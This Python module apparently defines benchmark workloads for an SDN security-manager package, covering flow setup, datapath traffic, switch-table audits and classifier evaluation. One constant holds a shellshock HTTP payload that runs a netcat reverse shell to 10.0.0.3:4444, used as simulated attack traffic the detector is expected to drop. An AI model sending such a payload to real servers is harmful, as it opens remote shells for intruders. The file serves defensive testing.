"""The four benchmark workloads.

Each workload builds its inputs from a seed (``setup``), runs one round of
timed operations against the package as a library (``run``), and then checks
the round's outputs untimed (``finish``).  Calls into the package go through
module attributes (``fabric.inject_packet``, not a name imported from it), so
the traced run can wrap them.

A round's inputs depend only on the seed and the sizes, so every round of a
run must give the same virtual-time digest.
"""

from __future__ import annotations

import gc
import hashlib
import json
import random
import time
from collections import Counter
from dataclasses import dataclass, field
from importlib import resources
from operator import attrgetter

from slice_sentinel import anomaly, controller, fabric, policy
from slice_sentinel import security_functions as sf

SIZES = {
    "full": {
        "fleet_edges": 1500,
        "steady_edges": 1000,
        "steady_packets": 30000,
        "audit_edges": 100,
        "audit_cycles": 3,
        "ml_rows": 6000,
    },
    "toy": {
        "fleet_edges": 30,
        "steady_edges": 40,
        "steady_packets": 700,
        "audit_edges": 6,
        "audit_cycles": 2,
        "ml_rows": 300,
    },
}

SERVICE_IP = "10.9.0.1"
# Timed work is cut into slices of about 0.2-0.5 s; host-speed probes run
# between slices (see ``host_probe``).
SLICE_FLOWS = 250
SLICE_PACKETS = 1500
PROBES_PER_CUT = 3
SHELLSHOCK_PAYLOAD = (
    b"GET /cgi-bin/status HTTP/1.1\r\n"
    b"User-Agent: () { :;}; /bin/nc -e /bin/sh 10.0.0.3 4444\r\n\r\n"
)


class _ProbeItem:
    __slots__ = ("key", "slot", "rank", "next")


def _probe_items(n: int = 4000) -> list:
    """A fixed ring of objects, linked in a seeded random order."""
    items = [_ProbeItem() for _ in range(n)]
    for key, item in enumerate(items):
        item.key, item.slot, item.rank = key, key & 255, (-key & 15) * n + key
    order = list(range(n))
    random.Random(0).shuffle(order)
    for a, b in zip(order, order[1:] + order[:1]):
        items[a].next = items[b]
    return items


_PROBE_ITEMS = _probe_items()
_PROBE_SORTED = list(_PROBE_ITEMS)
_PROBE_COUNTS = dict.fromkeys(range(256), 0)
_PROBE_MATERIAL = bytes(range(256)) * 16
_BY_RANK, _BY_KEY = attrgetter("rank"), attrgetter("key")


def host_probe() -> float:
    """Wall clock of a fixed piece of work that uses no package code: three
    walks of a ring of 4000 objects with attribute reads and dict updates,
    two keyed sorts in Python, then SHA-256 over 240 KiB in C.

    The recorded machine shares its cores with other tenants and runs the
    same code up to twice as slow for seconds to minutes at a time.  The
    median probe time of a run measures how fast the host was during it.
    The probe allocates next to nothing (its data is built at import and
    every integer it makes is a cached small one), so the size and layout of
    the workload's heap do not enter the measurement; the cyclic collector
    is off while it runs.
    """
    collecting = gc.isenabled()
    gc.disable()
    try:
        start = time.perf_counter()
        counts = _PROBE_COUNTS
        first = _PROBE_ITEMS[0]
        for _ in range(3):
            item = first
            while True:
                slot = item.slot
                counts[slot] = (counts[slot] + slot) & 255
                item = item.next
                if item is first:
                    break
        _PROBE_SORTED.sort(key=_BY_RANK)
        _PROBE_SORTED.sort(key=_BY_KEY)
        digest = hashlib.sha256()
        for _ in range(60):
            digest.update(_PROBE_MATERIAL)
        digest.digest()
        return time.perf_counter() - start
    finally:
        if collecting:
            gc.enable()


@dataclass
class Round:
    """What one round measured and what its outputs were."""

    timed_s: float = 0.0
    ops: int = 0
    samples: list = field(default_factory=list)  # per-operation wall clock, seconds
    probes: list = field(default_factory=list)  # host_probe() times between slices
    attempted: int = 0
    failed: int = 0
    failures: Counter = field(default_factory=Counter)
    violations: list = field(default_factory=list)  # broken invariants
    digest_material: dict = field(default_factory=dict)
    log_entries: int = 0  # activity log length at the end of the round
    max_rss_kb: int = 0  # peak resident set size of the process at the end of the round
    _mark: float = 0.0

    def start(self) -> None:
        self._mark = time.perf_counter()

    def cut(self) -> None:
        """End a slice of timed work and probe the host before the next one."""
        self.timed_s += time.perf_counter() - self._mark
        self.probes.extend(host_probe() for _ in range(PROBES_PER_CUT))
        self._mark = time.perf_counter()

    def fail(self, kind: str) -> None:
        self.failed += 1
        self.failures[kind] += 1

    def digest(self) -> str:
        blob = json.dumps(self.digest_material, sort_keys=True, separators=(",", ":"))
        return hashlib.sha256(blob.encode()).hexdigest()


def bundled_signatures() -> list:
    ref = resources.files("slice_sentinel.configs").joinpath("signatures.json")
    return sf.parse_signatures(json.loads(ref.read_text(encoding="utf-8")))


def ue_ip(i: int) -> str:
    return f"10.{1 + i // 250}.{i % 250}.2"


def ue_mac(i: int) -> str:
    return f"02:00:00:{i:04d}"


def fleet_documents(n: int, dual_homed: bool = False, confidential=frozenset()) -> tuple[dict, list]:
    """Topology and policies in the shape of ``scenarios._fleet_documents``.

    One core switch and one service host; edge ``E<i>`` serves ``U<i>``.  With
    ``dual_homed`` every UE also links to the next edge, so it can be handed
    over.  UEs in ``confidential`` require confidentiality for the service.
    """
    nodes = [{"id": "COREB", "kind": "core"}, {"id": "SVCB", "kind": "host", "ip": SERVICE_IP}]
    links = [{"a": "COREB", "b": "SVCB", "latency_ms": 1}]
    policies = []
    for i in range(n):
        edge, ue = f"E{i:04d}", f"U{i:04d}"
        nodes.append({"id": edge, "kind": "edge"})
        nodes.append({"id": ue, "kind": "host", "ip": ue_ip(i)})
        links.append({"a": ue, "b": edge, "latency_ms": 1})
        links.append({"a": edge, "b": "COREB", "latency_ms": 1})
        action = {"Service": "BenchService", "Slice-id": "VLAN100"}
        if i in confidential:
            action["security"] = ["confidentiality"]
        policies.append(
            {
                "id": f"p{i:04d}",
                "hostip": ue_ip(i),
                "hostmac": ue_mac(i),
                "destip": SERVICE_IP,
                "user": {"id": f"user-{i:04d}", "name": f"user-{i:04d}",
                         "role": "Personal-Role", "organization": ""},
                "contract_id": f"c{i:04d}",
                "actions": [action],
            }
        )
    if dual_homed:
        for i in range(n):
            links.append({"a": f"U{i:04d}", "b": f"E{(i + 1) % n:04d}", "latency_ms": 1})
    topology = {"nodes": nodes, "links": links,
                "slices": [{"vlan": 100, "name": "bench", "hosts": ["SVCB"]}]}
    return topology, policies


@dataclass
class World:
    fab: object
    mgr: object
    setup_cost_us: int = 0
    inputs: list = field(default_factory=list)
    meta: dict = field(default_factory=dict)


def build_world(topology: dict, policies: list, seed: int, security: bool = True) -> World:
    fab = fabric.build_topology(topology)
    repo = policy.load_policies(policies)
    cfg = controller.ManagerConfig(security_enabled=security)
    mgr = controller.SecurityManager(fab, repo, signatures=bundled_signatures(), config=cfg, seed=seed)
    return World(fab=fab, mgr=mgr)


def first_packet(i: int, t: int, payload: bytes) -> fabric.Packet:
    return fabric.Packet(src_ip=ue_ip(i), dst_ip=SERVICE_IP, src_mac=ue_mac(i),
                         dst_mac="0e:00:00:01", payload=payload, flow_id=f"flow-{i:04d}",
                         virtual_timestamp=t)


def drain_punts(world: World) -> list:
    """Serve every queued punt; returns the controller's decisions."""
    decisions = []
    while world.fab.punt_events:
        decisions.append(world.mgr.new_flow(world.fab.punt_events.popleft()))
    return decisions


def feed_alerts(world: World) -> int:
    """Hand queued alerts to the manager, as the scenario harness does with blacklist feedback on."""
    mgr = world.mgr
    if not mgr.pending_alerts:
        return 0
    alerts = list(mgr.pending_alerts)
    mgr.pending_alerts.clear()
    for alert in alerts:
        mgr.alert(alert)
    return len(alerts)


def install_flows(world: World, ues, ingress_of) -> None:
    """Set-up helper: punt, decide and re-inject the first packet of each UE."""
    for i in ues:
        packet = first_packet(i, 0, b"hello")
        fabric.inject_packet(world.fab, packet, ingress_of(i))
        for decision in drain_punts(world):
            world.setup_cost_us += decision.cost_us
        trace = fabric.inject_packet(world.fab, packet, ingress_of(i))
        if not isinstance(trace.outcome, fabric.Delivered):
            raise RuntimeError(f"set-up flow of UE {i} not delivered: {trace.outcome}")


def outcome_key(outcome) -> str:
    if isinstance(outcome, fabric.Delivered):
        return "delivered"
    if isinstance(outcome, fabric.Dropped):
        return f"dropped:{outcome.reason}"
    return "punted"


def log_head(world: World) -> str:
    entries = world.mgr.log.entries
    return entries[-1].entry_hash.hex() if entries else ""


def check_log(world: World, rnd: Round) -> None:
    if not world.mgr.log.verify():
        rnd.violations.append("activity log hash chain does not verify")


# ---------------------------------------------------------------------------
# fleet-setup
# ---------------------------------------------------------------------------

class FleetSetup:
    """Every UE of a fresh single-core fleet sets up one flow.

    Rounds alternate between a fleet with the security manager on and one
    with it off (the plain reactive path), so a run holds whole pairs.
    """

    name = "fleet-setup"
    op_name = "flows"
    period = 2  # rounds alternate security on / off
    op_is_round = False

    def __init__(self, sizes: dict) -> None:
        self.n = sizes["fleet_edges"]

    def setup(self, seed: int, index: int) -> World:
        security = index % 2 == 0
        topology, policies = fleet_documents(self.n)
        world = build_world(topology, policies, seed, security=security)
        rng = random.Random(f"fleet-setup|{seed}")
        order = list(range(self.n))
        rng.shuffle(order)
        world.inputs = [
            (i, first_packet(i, t, b"\x00" * (1400 if rng.random() < 0.3 else 64)))
            for t, i in enumerate(order)
        ]
        world.meta["security"] = security
        return world

    def run(self, world: World, tracer) -> Round:
        rnd = Round()
        fab, mgr = world.fab, world.mgr
        inject, drain = fabric.inject_packet, drain_punts
        clock = time.perf_counter
        outcomes: Counter = Counter()
        verdicts: Counter = Counter()
        cost_us = 0
        punted = 0
        rnd.start()
        for k, (i, packet) in enumerate(world.inputs):
            if k and k % SLICE_FLOWS == 0:
                rnd.cut()
            tracer.op += 1
            rnd.attempted += 1
            rnd.ops += 1
            ingress = (f"E{i:04d}", 1)
            t0 = clock()
            try:
                trace = inject(fab, packet, ingress)
                if isinstance(trace.outcome, fabric.Punted):
                    punted += 1
                    for decision in drain(world):
                        cost_us += decision.cost_us
                        verdicts[decision.verdict] += 1
                    trace = inject(fab, packet, ingress)
            except Exception as exc:  # per-operation failure accounting
                rnd.samples.append(clock() - t0)
                rnd.fail(type(exc).__name__)
                outcomes["exception"] += 1
                continue
            rnd.samples.append(clock() - t0)
            key = outcome_key(trace.outcome)
            outcomes[key] += 1
            if key != "delivered":
                rnd.fail(f"not-delivered:{key}")
        rnd.cut()
        if mgr.pending_alerts:
            rnd.violations.append("first packets of benign UEs raised alerts")
        rnd.digest_material = {
            "security": world.meta["security"],
            "outcomes": dict(outcomes),
            "punted": punted,
            "verdicts": dict(verdicts),
            "cost_us": cost_us,
        }
        return rnd

    def finish(self, world: World, rnd: Round) -> None:
        check_log(world, rnd)
        injected = len(world.inputs)
        outcomes = rnd.digest_material["outcomes"]
        settled = sum(v for k, v in outcomes.items() if k == "delivered" or k.startswith("dropped:"))
        if settled + outcomes.get("exception", 0) != injected:
            rnd.violations.append(f"packets injected {injected} != delivered + dropped {settled}")
        rnd.digest_material["log_head"] = log_head(world)
        rnd.digest_material["core_rules"] = len(world.fab.nodes["COREB"].table)


# ---------------------------------------------------------------------------
# steady-datapath
# ---------------------------------------------------------------------------

class SteadyDatapath:
    """Seeded traffic over a fleet whose flows were installed during set-up.

    10% of UEs need confidentiality (AES-GCM between edge and core), about 1%
    flood past the rate cap once, and a few UEs send the shellshock payload.
    Alerts are fed back to the manager, which blacklists the sender.
    """

    name = "steady-datapath"
    op_name = "packets"
    period = 1
    op_is_round = False

    def __init__(self, sizes: dict) -> None:
        self.n = sizes["steady_edges"]
        self.packets = sizes["steady_packets"]

    def setup(self, seed: int, index: int) -> World:
        rng = random.Random(f"steady-datapath|{seed}")
        ues = list(range(self.n))
        confidential = frozenset(rng.sample(ues, max(1, self.n // 10)))
        topology, policies = fleet_documents(self.n, confidential=confidential)
        world = build_world(topology, policies, seed)
        install_flows(world, ues, lambda i: (f"E{i:04d}", 1))
        for i in sorted(confidential):
            world.mgr.provision_security(f"flow-{i:04d}")
        world.inputs = self._traffic(rng, world.mgr.config.anomaly_threshold)
        world.meta["confidential"] = confidential
        return world

    def _traffic(self, rng: random.Random, threshold: int) -> list:
        """(ue, packet, expected) triples; ``expected`` is the reference outcome."""
        burst = threshold + 20
        n_flooders = max(1, self.n // 100)
        n_exploits = max(1, min(5, self.n // 100))
        special = rng.sample(range(self.n), n_flooders + n_exploits)
        flooders, exploiters = special[:n_flooders], special[n_flooders:]
        plain = [i for i in range(self.n) if i not in set(flooders)]
        n_uniform = max(0, self.packets - n_flooders * burst)
        small, large = b"\x00" * 64, b"\x00" * 1400
        kinds = []  # (ue, kind)
        for _ in range(n_uniform):
            kinds.append((rng.choice(plain), "benign"))
        for ue in exploiters:
            # The exploit goes after the first quarter, so the UE also sends
            # benign traffic before being blacklisted.
            kinds.insert(rng.randrange(n_uniform // 4, n_uniform + 1), (ue, "exploit"))
        for ue in flooders:
            at = rng.randrange(min(len(kinds), 2000), len(kinds) + 1)
            kinds[at:at] = [(ue, "flood")] * burst
        traffic = []
        blocked: set = set()
        burst_seen: Counter = Counter()
        for k, (ue, kind) in enumerate(kinds):
            if kind == "exploit":
                payload = SHELLSHOCK_PAYLOAD
            else:
                payload = large if rng.random() < 0.3 else small
            if ue in blocked:
                expected = "dropped:deny-blacklisted"
            elif kind == "exploit":
                expected = "dropped:signature:sig-shellshock"
                blocked.add(ue)
            elif kind == "flood":
                burst_seen[ue] += 1
                if burst_seen[ue] > threshold:
                    expected = "dropped:anomaly"
                    blocked.add(ue)
                else:
                    expected = "delivered"
            else:
                expected = "delivered"
            # One virtual millisecond per packet keeps each benign UE far
            # below the per-second rate cap; a flood burst is 120 packets in
            # 120 ms from one UE.
            packet = fabric.Packet(
                src_ip=ue_ip(ue), dst_ip=SERVICE_IP, src_mac=ue_mac(ue), dst_mac="0e:00:00:01",
                payload=payload, flow_id=f"flow-{ue:04d}", virtual_timestamp=2000 + k,
            )
            traffic.append((ue, packet, expected))
        return traffic

    def run(self, world: World, tracer) -> Round:
        rnd = Round()
        fab = world.fab
        inject = fabric.inject_packet
        clock = time.perf_counter
        outcomes: Counter = Counter()
        blacklisted_at: dict = {}
        encrypted = 0
        alerts = 0
        rnd.start()
        for seq, (ue, packet, expected) in enumerate(world.inputs):
            if seq and seq % SLICE_PACKETS == 0:
                rnd.cut()
            tracer.op += 1
            rnd.attempted += 1
            rnd.ops += 1
            t0 = clock()
            try:
                trace = inject(fab, packet, (f"E{ue:04d}", 1))
            except Exception as exc:  # per-operation failure accounting
                rnd.samples.append(clock() - t0)
                rnd.fail(type(exc).__name__)
                outcomes["exception"] += 1
                continue
            rnd.samples.append(clock() - t0)
            key = outcome_key(trace.outcome)
            outcomes[key] += 1
            if key != expected:
                rnd.fail(f"expected {expected}, got {key}")
            if key == "delivered":
                if ue in blacklisted_at:
                    rnd.violations.append(f"UE {ue} delivered after it was blacklisted")
                if trace.events[-1].payload != packet.payload:
                    rnd.violations.append(f"UE {ue} payload altered on delivery")
                if ue in world.meta["confidential"]:
                    encrypted += 1
            if world.mgr.pending_alerts:
                alerts += feed_alerts(world)
                for device in world.mgr.global_blacklist:
                    blacklisted_at.setdefault(int(device.rsplit(":", 1)[1]), seq)
        rnd.cut()
        rnd.digest_material = {
            "outcomes": dict(outcomes),
            "alerts": alerts,
            "encrypted_delivered": encrypted,
            "blacklisted": sorted(blacklisted_at),
            "setup_cost_us": world.setup_cost_us,
            "clock_ms": fab.clock_ms,
        }
        return rnd

    def finish(self, world: World, rnd: Round) -> None:
        check_log(world, rnd)
        outcomes = rnd.digest_material["outcomes"]
        settled = sum(v for k, v in outcomes.items() if k == "delivered" or k.startswith("dropped:"))
        if settled + outcomes.get("exception", 0) != len(world.inputs):
            rnd.violations.append("packets injected != delivered + dropped")
        rnd.digest_material["log_head"] = log_head(world)


# ---------------------------------------------------------------------------
# audit-churn
# ---------------------------------------------------------------------------

class AuditChurn:
    """Dual-homed fleet under churn, audited by ``tick`` after every cycle.

    A cycle hands UEs over between their two edges, raises an alert, makes
    three external flow-mods (an extra rule, a deleted controller rule and a
    rule with a changed action), ticks, and audits one restored switch again.
    """

    name = "audit-churn"
    op_name = "switch audits"
    period = 1
    op_is_round = False

    def __init__(self, sizes: dict) -> None:
        self.n = sizes["audit_edges"]
        self.cycles = sizes["audit_cycles"]

    def setup(self, seed: int, index: int) -> World:
        topology, policies = fleet_documents(self.n, dual_homed=True)
        world = build_world(topology, policies, seed)
        install_flows(world, range(self.n), lambda i: (f"E{i:04d}", 1))
        world.meta["rng"] = random.Random(f"audit-churn|{seed}")
        world.meta["edge_of"] = {i: f"E{i:04d}" for i in range(self.n)}
        return world

    def _switches(self, world: World) -> list:
        return sorted(n for n, node in world.fab.nodes.items() if node.kind != fabric.NodeKind.HOST)

    def _flow_mods(self, world: World, rng: random.Random, cycle: int) -> dict:
        """Tamper with three distinct switches; returns the expected findings."""
        fab = world.fab
        switches = self._switches(world)
        with_forward = [s for s in switches
                        if any(isinstance(r.action, fabric.Forward) for r in fab.nodes[s].table.rules())]
        modify_at = rng.choice(with_forward)
        others = [s for s in switches if s != modify_at]
        extra_at, delete_at = rng.sample(others, 2)
        expected = {s: {"extra": [], "missing": [], "modified": []} for s in switches}

        extra = fabric.FlowRule(
            rule_id=f"atk-{cycle:04d}",
            match=fabric.FlowKey(src_ip=f"10.66.{cycle % 250}.{1 + cycle // 250}", dst_ip=SERVICE_IP),
            action=fabric.Drop(), priority=77,
        )
        fabric.apply_flow_mod(fab, extra_at, fabric.FlowMod.add(extra), fabric.Provenance.EXTERNAL)
        expected[extra_at]["extra"].append(extra.rule_id)

        victim = rng.choice(sorted(r.rule_id for r in fab.nodes[delete_at].table.rules()))
        fabric.apply_flow_mod(fab, delete_at, fabric.FlowMod.delete(victim), fabric.Provenance.EXTERNAL)
        expected[delete_at]["missing"].append(victim)

        target = rng.choice(sorted(
            (r for r in fab.nodes[modify_at].table.rules() if isinstance(r.action, fabric.Forward)),
            key=lambda r: r.rule_id,
        ))
        changed = fabric.FlowRule(rule_id=target.rule_id, match=target.match,
                                  action=fabric.Drop(), priority=target.priority)
        fabric.apply_flow_mod(fab, modify_at, fabric.FlowMod.add(changed), fabric.Provenance.EXTERNAL)
        expected[modify_at]["modified"].append(target.rule_id)
        return expected

    def run(self, world: World, tracer) -> Round:
        rnd = Round()
        findings, handovers = [], []
        rnd.start()
        for cycle in range(self.cycles):
            self._cycle(world, rnd, tracer, cycle, findings, handovers)
            rnd.cut()
        rnd.digest_material = {
            "findings": findings,
            "handovers": handovers,
            "blacklisted": sorted(world.mgr.global_blacklist),
            "setup_cost_us": world.setup_cost_us,
        }
        return rnd

    def _cycle(self, world: World, rnd: Round, tracer, cycle: int, findings: list,
               handovers: list) -> None:
        mgr = world.mgr
        rng = world.meta["rng"]
        edge_of = world.meta["edge_of"]
        clock = time.perf_counter
        now = 1000 * (cycle + 1)
        world.fab.clock_ms = max(world.fab.clock_ms, now)
        tracer.op += 1
        for ue in rng.sample(range(self.n), max(1, self.n // 20)):
            home, other = f"E{ue:04d}", f"E{(ue + 1) % self.n:04d}"
            target = other if edge_of[ue] == home else home
            rnd.attempted += 1
            try:
                result = mgr.handover(ue_mac(ue), edge_of[ue], target)
            except Exception as exc:  # per-operation failure accounting
                rnd.fail(type(exc).__name__)
                continue
            handovers.append([ue, edge_of[ue], target, result.rules_reanchored])
            edge_of[ue] = target
        rnd.cut()
        tracer.op += 1
        suspect = rng.choice([i for i in range(self.n) if ue_mac(i) not in mgr.global_blacklist])
        rnd.attempted += 1
        try:
            mgr.alert(sf.Alert("flow-validator", ue_mac(suspect), f"flow-{suspect:04d}",
                               "anomaly:rate", "high", now))
        except Exception as exc:  # per-operation failure accounting
            rnd.fail(type(exc).__name__)
        tracer.op += 1
        rnd.attempted += 1
        try:
            expected = self._flow_mods(world, rng, cycle)
        except Exception as exc:  # per-operation failure accounting
            rnd.fail(type(exc).__name__)
            expected = {}
        rnd.cut()
        tracer.op += 1
        t0 = clock()
        try:
            results = mgr.tick(now)
        except Exception as exc:  # per-operation failure accounting
            rnd.samples.append(clock() - t0)
            rnd.attempted += 1
            rnd.fail(type(exc).__name__)
            return
        rnd.samples.append(clock() - t0)
        rnd.cut()
        rnd.attempted += len(results)
        rnd.ops += len(results)
        tick_findings = {}
        for result in results:
            got = {
                "extra": sorted(r.rule_id for r in result.extra_rules),
                "missing": sorted(r.rule_id for r in result.missing_rules),
                "modified": sorted(e.rule_id for e, _o in result.modified_rules),
            }
            want = expected.get(result.node, {"extra": [], "missing": [], "modified": []})
            if got != want:
                rnd.fail("missed finding or false positive")
            if not result.clean:
                tick_findings[result.node] = got
        if len(results) != len(self._switches(world)):
            rnd.violations.append(f"tick audited {len(results)} switches")
        findings.append(tick_findings)
        tracer.op += 1
        restored = min(tick_findings) if tick_findings else "COREB"
        rnd.attempted += 1
        rnd.ops += 1
        try:
            again = mgr.audit_now(restored)
        except Exception as exc:  # per-operation failure accounting
            rnd.fail(type(exc).__name__)
            return
        if not again.clean:
            rnd.fail("restored switch audits dirty")
            rnd.violations.append(f"audit after restore of {restored} is not clean")

    def finish(self, world: World, rnd: Round) -> None:
        check_log(world, rnd)
        rnd.digest_material["log_head"] = log_head(world)
        rnd.digest_material["log_entries"] = len(world.mgr.log)


# ---------------------------------------------------------------------------
# classifier-eval
# ---------------------------------------------------------------------------

SELECTORS = (("chi2", 5), ("ensemble", 4))
CLASSIFIERS = ("nb", "dt")


class ClassifierEval:
    """One pass of the ``ml`` methodology per round: split, 10-bin quantile
    binning, then {chi:5, ensemble:4} x {naive Bayes, decision tree}, each
    fitted and evaluated row by row through ``predict_one``."""

    name = "classifier-eval"
    op_name = "ml passes"
    period = 1
    op_is_round = True  # the operation is the whole pass; its stages are the slices

    def __init__(self, sizes: dict) -> None:
        self.rows = sizes["ml_rows"]

    def setup(self, seed: int, index: int) -> World:
        dataset = anomaly.synthetic_flow_dataset(n_rows=self.rows, seed=seed)
        return World(fab=None, mgr=None, inputs=[dataset], meta={"seed": seed})

    def run(self, world: World, tracer) -> Round:
        rnd = Round()
        dataset = world.inputs[0]
        seed = world.meta["seed"]
        evaluations = []
        tracer.op += 1
        rnd.start()
        train, test = anomaly.train_test_split(dataset, test_fraction=0.3, seed=seed)
        binner = anomaly.EqualFrequencyBinner(n_bins=10).fit(train.features)
        train_b = anomaly.Dataset(binner.transform(train.features), train.labels, train.feature_names)
        test_b = anomaly.Dataset(binner.transform(test.features), test.labels, test.feature_names)
        rnd.cut()
        for method, k in SELECTORS:
            selected = anomaly.select_features(train_b.features, train_b.labels, k=k,
                                               method=method, seed=seed)
            train_s, test_s = train_b.select_columns(selected), test_b.select_columns(selected)
            rnd.cut()
            for name in CLASSIFIERS:
                rnd.attempted += 1
                try:
                    model = anomaly.NaiveBayesClassifier() if name == "nb" else anomaly.DecisionTree()
                    model.fit(train_s.features, train_s.labels)
                    metrics = anomaly.evaluate(model.predict_one, test_s)
                except Exception as exc:  # per-operation failure accounting
                    rnd.fail(type(exc).__name__)
                    rnd.cut()
                    continue
                rnd.cut()
                ok, _deviations = anomaly.rate_identities_hold(
                    metrics.tpr, metrics.fnr, metrics.tnr, metrics.fpr)
                if not ok:
                    rnd.fail("rate identities broken")
                evaluations.append({
                    "selector": f"{method}:{k}",
                    "classifier": name,
                    "selected": list(selected),
                    "confusion": metrics.confusion,
                    "rates": [None if v is None else round(v, 9)
                              for v in (metrics.accuracy, metrics.tpr, metrics.tnr,
                                        metrics.fnr, metrics.fpr, metrics.auc)],
                })
        rnd.digest_material = {"rows": dataset.n_rows, "evaluations": evaluations}
        return rnd

    def finish(self, world: World, rnd: Round) -> None:
        if len(rnd.digest_material["evaluations"]) != len(SELECTORS) * len(CLASSIFIERS):
            rnd.violations.append("not every selector/classifier pair was evaluated")


WORKLOADS = {cls.name: cls for cls in (FleetSetup, SteadyDatapath, AuditChurn, ClassifierEval)}
